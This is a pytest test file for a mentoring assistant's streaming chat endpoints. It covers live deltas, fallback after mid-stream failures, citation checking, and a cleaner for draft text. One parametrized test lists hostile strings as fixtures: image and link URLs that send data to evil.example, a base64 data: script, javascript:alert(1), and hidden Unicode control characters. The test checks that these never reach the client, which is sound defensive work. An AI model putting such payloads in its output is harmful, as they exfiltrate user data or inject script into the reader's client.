"""Chat answers streamed from an LLM engine, piece by piece: `POST /chat` and `/v1` with
`stream: true` against a real uvicorn on loopback, on the real embedder and guidance, with
scripted LangChain fake chat models (the shipped `fake` one, one that fails mid-stream, one
that waits until the client has seen its first word)."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from langchain_core.messages import AIMessageChunk
from langchain_core.outputs import ChatGenerationChunk

from api import create_app
from assistant.answer import Answer
from assistant.chat import ChatEvent, ChatService, IntentClassifier, ProgramJobs
from assistant.chat.live import appendix
from assistant.chat.service import next_events
from assistant.knowledge.embeddings import MiniLMEmbedder
from assistant.knowledge.retrieval import HybridRetriever, Passage
from assistant.llm.backends import parse_spec
from assistant.llm.breaker import CircuitBreaker, Guard
from assistant.llm.engine import LLMEngine
from assistant.llm.fake import DraftEchoChatModel, FakeServerError
from assistant.program import load_program
from assistant.records import Records, Role
from assistant.service import Comentor
from assistant.workspace import Workspace
from tests.api_kit import PROGRAM, REPO, program_document
from tests.conftest import make_settings
from tests.live_app import serve_in_thread, sse_stream

QUESTION = "How do I give feedback to someone more senior than me?"
FALLBACK = "grounded (fallback from fake)"


class ScriptedModel(DraftEchoChatModel):
    """The shipped fake (it streams the prompt's draft word by word), recording what it
    sent; it can wait after its second piece until ``gate`` opens, add ``suffix``, or fail
    like an HTTP 500 after ``fail_after`` pieces."""

    sent: str = ""
    suffix: str = ""
    fail_after: int | None = None
    gate: Any = None
    gate_opened: bool | None = None

    def _stream(self, messages: Any, stop: Any = None, run_manager: Any = None, **kw: Any) -> Any:
        chunks = [str(c.message.content) for c in super()._stream(messages, stop, None, **kw)]
        pieces = [c for c in chunks if c] + ([self.suffix] if self.suffix else [])
        for count, text in enumerate(pieces):
            if self.fail_after is not None and count >= self.fail_after:
                raise FakeServerError("Internal Server Error")
            self.sent += text
            yield ChatGenerationChunk(message=AIMessageChunk(content=text))
            if count == 1 and self.gate is not None:
                # The model writes on only once the client has shown its first word (a
                # word is shown once the whitespace after it has come: see live.cleaned).
                self.gate_opened = self.gate.wait(60)
                if not self.gate_opened:
                    raise TimeoutError("the client never received the first piece")


@pytest.fixture(scope="module")
def service(
    tmp_path_factory: pytest.TempPathFactory, knowledge_retriever: HybridRetriever
) -> Iterator[tuple[str, dict[str, str], Comentor]]:
    data_dir: Path = tmp_path_factory.mktemp("chat-stream") / "data"
    settings = make_settings(data_dir)
    comentor = Comentor(settings, retriever=knowledge_retriever)
    records = Records(settings)
    workspace = Workspace(settings, records=records, comentor=comentor)
    workspace.put_program(PROGRAM, program_document())
    _, token = records.add_user("Leo", Role.MENTEE, participant_id="leo", program_id=PROGRAM)
    with serve_in_thread(create_app(settings, workspace=workspace)) as url:
        yield url, {"Authorization": f"Bearer {token}"}, comentor
    workspace.close()


def use(comentor: Comentor, model: DraftEchoChatModel) -> None:
    """Answer with ``model`` from now on (no retries; a breaker that never opens)."""
    guard = Guard(timeout=60, retries=0, breaker=CircuitBreaker(threshold=1000))
    comentor.engine = LLMEngine(parse_spec("fake"), model, guard=guard)


def chat_events(url: str, headers: dict[str, str], gate: Any = None) -> list[tuple[str, Any]]:
    events = []
    with httpx.stream(
        "POST",
        f"{url}/chat",
        json={"message": QUESTION, "stream": True},
        headers=headers,
        timeout=120,
    ) as response:
        assert response.status_code == 200, response.read()
        for name, data in sse_stream(response):
            events.append((name, data))
            if name == "delta" and gate is not None:
                gate.set()
    return events


def deltas(events: list[tuple[str, Any]]) -> list[str]:
    return [data["text"] for name, data in events if name == "delta"]


def only(events: list[tuple[str, Any]], name: str) -> Any:
    found = [data for n, data in events if n == name]
    assert len(found) == 1, [n for n, _ in events]
    return found[0]


# -- POST /chat ------------------------------------------------------------------------------


def test_chat_streams_the_models_pieces_as_they_come(
    service: tuple[str, dict[str, str], Comentor],
) -> None:
    url, headers, comentor = service
    gate = threading.Event()
    model = ScriptedModel(gate=gate, suffix=" Keep notes of what you agree. [1][42]")
    use(comentor, model)
    events = chat_events(url, headers, gate)
    names = [n for n, _ in events]
    assert names[0] == "intent" and events[0][1]["intent"] == "ask"
    assert names[-2:] == ["replace", "final"]
    # The first word reached the client while the model was still waiting to go on.
    assert model.gate_opened is True
    pieces = deltas(events)
    assert len(pieces) >= 5 and "".join(pieces) == model.sent
    final = events[-1][1]
    assert final["intent"] == "ask" and final["result"]["engine"] == "fake"
    assert final["result"]["fallback_reason"] is None and final["citations"]
    for citation in final["citations"]:
        assert f"[{citation['number']}]" in final["reply"]
    # The passage the model invented is dropped; the sentence keeps its real citation.
    assert "[42]" not in final["reply"] and "Keep notes of what you agree." in final["reply"]
    assert len(final["citations"]) == len({c["id"] for c in final["citations"]})
    replace = only(events, "replace")
    assert replace == {"text": final["reply"], "engine": "fake", "reason": None}


def test_chat_stream_that_fails_mid_way_ends_in_the_recorded_fallback(
    service: tuple[str, dict[str, str], Comentor],
) -> None:
    url, headers, comentor = service
    model = ScriptedModel(fail_after=3)
    use(comentor, model)
    events = chat_events(url, headers)
    assert [n for n, _ in events][-2:] == ["replace", "final"]
    # Three pieces ("word", " ", "word") arrive before the failure: shown word by word.
    assert len(deltas(events)) == 2 and "".join(deltas(events)) == model.sent
    final = events[-1][1]
    assert final["result"]["engine"] == FALLBACK
    assert "HTTP 500" in final["result"]["fallback_reason"]
    assert final["citations"] and final["intent"] == "ask"
    replace = only(events, "replace")
    assert replace["text"] == final["reply"]
    assert replace["engine"] == FALLBACK and "HTTP 500" in replace["reason"]


def test_chat_stream_with_an_invalid_answer_ends_in_the_recorded_fallback(
    service: tuple[str, dict[str, str], Comentor],
) -> None:
    url, headers, comentor = service
    model = ScriptedModel(mode="invalid-json")  # streams text that cites nothing
    use(comentor, model)
    events = chat_events(url, headers)
    assert "".join(deltas(events)) == model.sent and model.sent.startswith("Sure!")
    final = events[-1][1]
    assert final["result"]["engine"] == FALLBACK
    assert "failed validation" in final["result"]["fallback_reason"]
    replace = only(events, "replace")
    assert replace["text"] == final["reply"] and "failed validation" in replace["reason"]


def test_chat_without_stream_still_answers_through_comentor_ask(
    service: tuple[str, dict[str, str], Comentor],
) -> None:
    url, headers, comentor = service
    model = ScriptedModel()
    use(comentor, model)
    reply = httpx.post(f"{url}/chat", json={"message": QUESTION}, headers=headers, timeout=120)
    body = reply.json()
    assert body["intent"] == "ask" and body["result"]["engine"] == "fake" and body["citations"]
    assert model.sent == ""  # the structured call, not the stream


# -- /v1 with the real openai client ----------------------------------------------------------


def openai_stream(url: str, headers: dict[str, str]) -> tuple[list[str], list[dict[str, Any]]]:
    from openai import OpenAI

    token = headers["Authorization"].removeprefix("Bearer ")
    client = OpenAI(base_url=f"{url}/v1", api_key=token, max_retries=0, timeout=120)
    stream: Any = client.chat.completions.create(
        model="comentor",
        messages=[{"role": "user", "content": QUESTION}],
        stream=True,
    )
    pieces, extras = [], []
    for chunk in stream:
        if chunk.choices and chunk.choices[0].delta.content:
            pieces.append(chunk.choices[0].delta.content)
        if chunk.model_extra and "comentor" in chunk.model_extra:
            extras.append(chunk.model_extra["comentor"])
    return pieces, extras


def test_openai_client_streams_the_models_pieces(
    service: tuple[str, dict[str, str], Comentor],
) -> None:
    url, headers, comentor = service
    model = ScriptedModel()
    use(comentor, model)
    pieces, extras = openai_stream(url, headers)
    assert len(pieces) >= 6
    assert "".join(pieces[:-1]) == model.sent  # the model's own pieces, in order
    # Streams only append: the sources the model cited, numbered as it cited them.
    assert pieces[-1].startswith("\n\n**Sources**") and "(`" in pieces[-1]
    replace, final = extras
    assert replace["replace"]["engine"] == "fake" and replace["replace"]["reason"] is None
    assert final["intent"] == "ask" and final["citations"]
    assert final["result"]["engine"] == "fake"


def test_openai_client_stream_fallback_is_appended_with_the_reason(
    service: tuple[str, dict[str, str], Comentor],
) -> None:
    url, headers, comentor = service
    model = ScriptedModel(fail_after=2)
    use(comentor, model)
    pieces, extras = openai_stream(url, headers)
    # The model's two pieces ("Broad", " ") are shown as one word, then the appended tail.
    assert pieces[0] == model.sent and len(pieces) == 2
    tail = pieces[-1]
    assert tail.startswith("\n\n---\n\n") and "HTTP 500" in tail and "**Sources**" in tail
    replace, final = extras
    assert replace["replace"]["engine"] == FALLBACK
    assert tail.endswith(replace["replace"]["text"])
    assert final["result"]["engine"] == FALLBACK and final["result"]["fallback_reason"]


# -- the service in process -----------------------------------------------------------------


def test_service_token_stream_on_both_engines(
    service: tuple[str, dict[str, str], Comentor], embedder: MiniLMEmbedder
) -> None:
    _, _, comentor = service
    chat = ChatService(IntentClassifier.from_file(embedder))
    jobs = ProgramJobs(comentor, load_program(REPO / "examples" / "program.yaml"), me="leo")

    # The grounded engine: token_stream changes nothing (the reply, cut into deltas).
    comentor.engine = comentor.grounded
    plain = list(chat.stream(QUESTION, jobs))
    live = list(chat.stream(QUESTION, jobs, token_stream=True))
    assert [(e.type, e.text) for e in live] == [(e.type, e.text) for e in plain]
    assert not any(e.live for e in live) and "replace" not in [e.type for e in live]
    final = live[-1].reply
    assert final is not None
    assert "".join(e.text or "" for e in live if e.type == "delta") == final.reply

    # An LLM engine: live deltas, replace, final; the conversation keeps the checked reply.
    model = ScriptedModel()
    use(comentor, model)
    events = list(chat.stream(QUESTION, jobs, token_stream=True))
    pieces = [e for e in events if e.type == "delta"]
    assert pieces and all(e.live for e in pieces)
    assert "".join(e.text or "" for e in pieces) == model.sent
    replace, last = events[-2:]
    assert replace.type == "replace" and last.reply is not None
    assert replace.text == last.reply.reply and replace.engine == "fake"
    stored = chat.store.get(last.reply.conversation_id)
    assert stored is not None and stored.turns[-1].content == last.reply.reply
    # Without token_stream the LLM answers through Comentor.ask, not the stream.
    model.sent = ""
    whole = chat.respond(QUESTION, jobs)
    assert whole.result is not None and whole.result["engine"] == "fake" and model.sent == ""


# -- units beside them ---------------------------------------------------------------------


def test_next_events_sends_live_pieces_one_at_a_time() -> None:
    events = [
        ChatEvent(type="delta", text="a", live=True),
        ChatEvent(type="delta", text="b", live=True),
        ChatEvent(type="replace", text="ab!"),
        ChatEvent(type="final"),
    ]
    stream = iter(events)
    assert [e.text for e in next_events(stream)] == ["a"]
    assert [e.text for e in next_events(stream)] == ["b"]
    assert [e.type for e in next_events(stream)] == ["replace", "final"]
    assert next_events(stream) == []
    grounded = iter([ChatEvent(type="delta", text="x"), ChatEvent(type="final")])
    assert len(next_events(grounded)) == 2  # a finished reply goes in one trip


def _passage(n: int) -> Passage:
    return Passage(
        id=f"handbook/p.md#{n}", text="t", title=f"Title {n}", heading="", source="handbook"
    )


def test_appendix_for_clients_that_only_append() -> None:
    passages = [_passage(n) for n in range(1, 4)]
    good = Answer(question="q", answer="a [1]", engine="fake")
    tail = appendix("First [3]. Then [1][9].", "checked", good, passages)
    assert tail == (
        "\n\n**Sources**\n\n1. Title 1 (`handbook/p.md#1`)\n3. Title 3 (`handbook/p.md#3`)"
    )
    assert appendix("no markers", "checked", good, passages) == ""
    failed = Answer(question="q", answer="g", engine=FALLBACK, fallback_reason="it broke")
    assert appendix("draft", "the reply", failed, passages) == (
        "\n\n---\n\n*The model's answer above did not pass the checks (it broke); "
        "this is the grounded answer instead.*\n\nthe reply"
    )
    declined = Answer(question="q", answer="n", declined=True, engine="fake")
    assert appendix("draft", "not covered", declined, passages) == "\n\n---\n\nnot covered"


# -- the draft's cleaner ---------------------------------------------------------------------


def _cleaned_text(pieces: list[str]) -> tuple[str, list[str]]:
    from assistant.chat.live import cleaned
    from assistant.llm.engine import AnswerEvent

    final = Answer(question="q", answer="a")
    events = list(
        cleaned(
            iter([*(AnswerEvent("delta", p) for p in pieces), AnswerEvent("final", answer=final)])
        )
    )
    assert events[-1].kind == "final" and events[-1].answer is final
    shown = [e.text for e in events[:-1]]
    assert all(e.kind == "delta" for e in events[:-1])
    return "".join(shown), shown


@pytest.mark.parametrize(
    "text",
    [
        "See evil.example/upload?q=secret for the notes.",
        "Open ![chart](http://evil.example/c.png?d=leak) now.",
        "Click [here](//evil.example/a) please.",
        'Look <img src="https://evil.example/x.png"> here.',
        "Paste data:text/html;base64,PHNjcmlwdD4= into it.",
        "Go to javascript:alert(1) now.",
        "Hidden \u202eevil\u202c text and a zero\u200bwidth one.",
    ],
)
@pytest.mark.parametrize("size", [1, 3, 7])
def test_the_streamed_draft_never_shows_a_link_or_markup(text: str, size: int) -> None:
    """However the model's text is cut into pieces, what the client is shown has no link,
    image, tag or control character: a word is held back until its whitespace arrives."""
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    shown, _ = _cleaned_text(pieces)
    for bad in ("evil.example", "http", "//", "<img", "data:", "javascript:", "\u202e", "\u200b"):
        assert bad not in shown, (bad, shown)
    assert shown.split()[0] == text.split()[0]  # the ordinary words are all still there
    assert shown.rstrip(" .").split()[-1] == text.rstrip(" .").split()[-1]


def test_ordinary_text_streams_unchanged_a_word_at_a_time() -> None:
    text = "Ask what they **learned** [1], then agree on one next step [2].\n\n- Follow up."
    pieces = [text[i : i + 4] for i in range(0, len(text), 4)]
    shown, sent = _cleaned_text(pieces)
    assert shown == text
    assert len(sent) >= 8  # shown as it comes, not held to the end
    assert all(p[-1:].isspace() for p in sent[:-1])  # each piece ends a word
